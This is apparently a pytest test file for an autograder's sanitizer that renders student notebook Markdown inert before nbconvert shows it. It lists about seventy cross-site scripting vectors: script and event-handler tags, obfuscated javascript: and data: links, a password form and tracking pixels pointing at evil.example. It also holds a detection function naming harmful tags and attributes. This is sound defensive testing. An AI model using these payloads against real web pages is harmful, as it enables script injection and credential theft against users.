"""What a student wrote runs nothing in the page that shows it, as nbconvert renders it."""

from __future__ import annotations

import base64
import re
import time

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert import HTMLExporter
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
from nbformat.v4 import new_markdown_cell, new_notebook

from autograder.inert import as_typed, inert, pictures

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()
TAGS = """script iframe object embed form meta link base style svg math input textarea button
video audio frame frameset applet template"""
HARMFUL = frozenset(TAGS.split())

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href='https://evil.example/'>",
    "<style>body{display:none}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<b onmouseover=alert(1)>b</b>",
    "<p style='position:fixed'>p</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)>?>",
    "<pre>\n<https://onmouseover=alert(1)>\n</pre>",
    "<<http://x>img src=x onerror=alert(1)>",
    "<p>\n<x-y onfocus=alert(1) tabindex=1>\n</p>",
    "<\x00script>alert(1)</\x00script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](java&#x73;cript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java%73cript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][r]\n\n> [r]: <javascript:alert(1)> 'title'",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](/hub/logout)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "![x`](attachment:a.png)`](https://evil.example/pixel.png)",
    "![![x](/hub/logout)](attachment:a.png)",
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    '![x" onerror="alert(1)](attachment:a.png)',
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "~~~ &#109;ermaid\nclick A href javascript:alert(1)\n~~~",
    "$<img src=x onerror=alert(1)>$",
    "$$<script>alert(1)</script>$$",
    "\\begin{a}<script>alert(1)</script>\\end{a}",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "- [ ] <img src=x onerror=alert(1)>",
]


def render(text: str) -> str:
    """As nbconvert, and so feedback and formgrader, make a page of a cell."""
    renderer = IPythonRenderer(escape=False, attachments={"a.png": {"image/png": PNG}})
    return MarkdownWithMath(renderer=renderer).render(text)


def harm_in(page: str) -> list[str]:
    """Whatever runs something, loads something or changes the page around it."""
    found = []
    for tag in BeautifulSoup(page, "html.parser").find_all(True):
        if tag.get("class") == ["task-list-item-checkbox"]:  # Markdown's own, disabled
            continue
        if tag.name in HARMFUL or "mermaid" in tag.get("class", []):
            found.append(str(tag))
        for key, value in tag.attrs.items():
            url = re.sub(r"[\s\x00-\x20]", "", str(value)).lower()
            if key.startswith("on") or key in ("style", "srcdoc", "action", "formaction"):
                found.append(f"{key}={value}")
            if key == "src" and not url.startswith("data:image/png;base64,"):
                found.append(f"{key}={value}")
            if key == "href" and not re.match(r"https?:|#|attachment:|[/\w.%-]*$", url):
                found.append(f"{key}={value}")
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_is_text(vector: str) -> None:
    assert harm_in(render(inert(vector, frozenset({"a.png"}))[0])) == []


def test_most_of_these_attacks_would_work_without_it() -> None:
    """Or the test above would prove nothing."""
    working = [vector for vector in VECTORS if harm_in(render(vector))]
    assert len(working) > 40


WORDS = r"""< << > </ <!-- --> <script> <img src=x onerror=alert(1)> <http://a> [x]( ]( ![a] ![ ]
( ) javascript: java script : &#106; &colon; &Tab; &amp; &lt; \ ``` ~~~ ` mermaid $ $$ \\( \\)
\begin{a} \end{a} <b> </b> <pre> </pre> <p> <details> <br> [r]: [r] attachment:a.png
attachment:b.png data:text/html,x data:image/png;base64,AA \| * _ # " ' ? ! / x"""
SPACES = ["\n", "\n\n", "    ", "\t", " ", " onerror=alert(1) ", "| a |\n|---|\n", "\u2028", "\x00"]
PIECES = WORDS.split() + SPACES


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_no_mixture_does_harm_or_stops_the_renderer(text: str) -> None:
    assert harm_in(render(inert(text, frozenset({"a.png"}))[0])) == []


@pytest.mark.parametrize("macro", ["href", "style", "class", "cssId", "require", "htmlData", "def"])
def test_a_formula_reaches_no_further_than_itself(macro: str) -> None:
    assert inert(f"$\\{macro}{{x}}{{y}}$") == (f"$\\ {macro}{{x}}{{y}}$", "")
    hidden = inert(f"&#36;\\{macro[0]}&#{ord(macro[1])};{macro[2:]}{{x}}&#36;")
    assert hidden[1], "spelt with an entity it is found as well"


@pytest.mark.parametrize(
    "text",
    [
        "$a \\le b$, $\\left(\\frac{a}{b}\\right)$ and $\\displaystyle\\sum_i x_i$",
        "a < b, 2 <3 and `x <- y`",
        "The data: 100 samples. See [the book](https://example.org/a?b=c#d) & more.",
        "<b>bold</b> H<sub>2</sub>O<br>x<sup>2</sup> <br/>",
        "<details><summary>s</summary>t</details>",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "```\nx = a['b'](c)\n```",
        "![kernel](attachment:a.png) ![](data:image/png;base64,AAAA)",
        "[1]: Section 3: the kernel is data: not code",
    ],
)
def test_honest_text_is_left_alone(text: str) -> None:
    assert inert(text, frozenset({"a.png"})) == (text, "")


def test_a_formula_reads_the_same() -> None:
    page = BeautifulSoup(render(inert("where $a<b$ and $x<y^2$")[0]), "html.parser")
    assert page.get_text().strip() == "where $a< b$ and $x< y^2$"


def test_an_address_in_brackets_is_still_a_link() -> None:
    page = BeautifulSoup(render(inert("see <https://example.org/a>.")[0]), "html.parser")
    assert page.a["href"] == "https://example.org/a"


def test_tags_that_do_not_close_are_text() -> None:
    assert inert("<b>loud")[0] == "< b>loud"
    assert inert("<b><i>x</b></i>")[0] == "< b>< i>x< /b>< /i>"


def test_a_block_of_code_cannot_be_left() -> None:
    text = "```\n<script>\n``````\n[x](javascript:1)\n`````"
    page = BeautifulSoup(render(as_typed(text)), "html.parser")
    assert page.code.get_text().strip() == text
    assert [tag.name for tag in page.find_all(True)] == ["pre", "code"]


@pytest.mark.parametrize(
    "piece",
    ["\\begin{a}", "\\\\(", "\\\\[", "$$ ", "`", "~~~~", "[a](<", "![", "<b>", "&amp;", "``` \t"],
)
def test_text_that_is_slow_to_read_takes_no_time(piece: str) -> None:
    """nbconvert alone needs up to a minute for some of these."""
    start = time.perf_counter()
    render(inert(piece * (200_000 // len(piece)))[0])
    render(inert(piece * (40_000 // len(piece)))[0])
    assert time.perf_counter() - start < 10


def bundle(data: bytes, mime: str = "image/png") -> dict[str, str]:
    return {mime: base64.b64encode(data).decode()}


def test_only_real_pictures_are_kept() -> None:
    attachments = {
        "a.png": {"image/png": PNG},
        "b.png": bundle(b"<svg onload=alert(1)>"),
        "c.svg": bundle(b"<svg/>", "image/svg+xml"),
        "d.html": bundle(b"<script>", "text/html"),
        "e.png": {"image/png": "not base64!"},
        "f.png": [1, 2],
        "g.jpg": bundle(b"\xff\xd8\xff\xe0", "image/jpeg"),
        "h.gif": bundle(b"GIF89a", "image/gif") | bundle(b"<svg/>", "image/svg+xml"),
    }
    kept, _, some_lost = pictures(attachments, "")
    assert set(kept) == {"a.png", "g.jpg", "h.gif"}
    assert set(kept["h.gif"]) == {"image/gif"}
    assert some_lost


@pytest.mark.parametrize(
    "address", ["attachment:Bild%20(1).png", "<attachment:Bild (1).png>", "attachment:Bild (1).png"]
)
def test_a_picture_with_an_odd_name_is_shown(address: str) -> None:
    source = f"![Bild (1).png]({address})"
    kept, source, some_lost = pictures({"Bild (1).png": {"image/png": PNG}}, source)
    assert list(kept) == ["picture-1.png"]
    assert not some_lost
    if not address.startswith("<"):
        assert source == "![Bild (1).png](attachment:picture-1.png)"


def test_nbconvert_makes_a_page_of_pictures_that_are_there_or_not() -> None:
    """A missing attachment would stop the feedback of that student."""
    text, reason = inert("![a](attachment:a.png)\n\n![b](attachment:b.png)", frozenset({"a.png"}))
    assert reason == "shows a picture that is not in it"
    cells = [
        new_markdown_cell(text),
        new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": {"image/png": PNG}}),
    ]
    page, _ = HTMLExporter(template_name="basic").from_notebook_node(new_notebook(cells=cells))
    assert page.count(f"data:image/png;base64,{PNG}") == 1
